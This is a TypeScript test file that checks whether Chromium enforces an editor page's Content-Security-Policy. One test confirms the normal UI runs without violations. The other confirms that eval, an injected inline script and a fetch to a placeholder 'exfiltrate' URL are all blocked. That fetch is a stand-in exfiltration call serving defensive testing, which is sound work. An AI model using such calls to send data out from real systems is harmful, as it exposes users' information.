import { describe, expect, it } from "vitest";
import { chromium, needs } from "../fixtures/requirements.js";
import { editorForFile } from "./editor-harness.js";

/** What the page-side callbacks touch (tests compile without the DOM library). */
interface Violation {
  violatedDirective: string;
  effectiveDirective: string;
  blockedURI: string;
}
declare const window: { violations: string[]; inlineRan?: boolean };
declare const document: {
  addEventListener(type: "securitypolicyviolation", listener: (event: Violation) => void): void;
  createElement(tag: "script"): { textContent: string };
  body: { append(node: unknown): void };
};

const editor = editorForFile();

describe("the editor page's Content-Security-Policy, enforced by Chromium", needs(chromium()), () => {
  it("lets the editor work (its WebSocket to its own server, auto layout) without a single violation", async () => {
    const { page } = editor;
    await page.evaluate(() => {
      window.violations = [];
      document.addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
    });
    // The page got here over its WebSocket (connect-src 'self'); now exercise the rest of the UI.
    await page.getByRole("button", { name: "Add Environment" }).click();
    await page.getByRole("button", { name: "Add Policy" }).click();
    await page.getByRole("button", { name: "Auto layout" }).click();
    await expect.poll(() => page.locator(".react-flow__node").count()).toBe(2);
    expect(await page.evaluate(() => window.violations)).toEqual([]);
  });

  it("blocks eval, inline scripts and connections to other hosts", async () => {
    const { page } = editor;
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      // Later, not inside evaluate (DevTools' evaluation may run eval whatever the page's policy says).
      const evalBlocked = await new Promise<boolean>((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)("1 + 1");
            resolve(false);
          } catch {
            resolve(true);
          }
        }, 0),
      );
      const script = document.createElement("script");
      script.textContent = "window.inlineRan = true";
      document.body.append(script);
      let fetchBlocked = false;
      try {
        await fetch("http://example.invalid/exfiltrate");
      } catch {
        fetchBlocked = true;
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { evalBlocked, inlineRan: window.inlineRan === true, fetchBlocked, violations };
    });
    expect(result).toEqual({ evalBlocked: true, inlineRan: false, fetchBlocked: true, violations: expect.arrayContaining(["script-src", "connect-src"]) });
  });
});
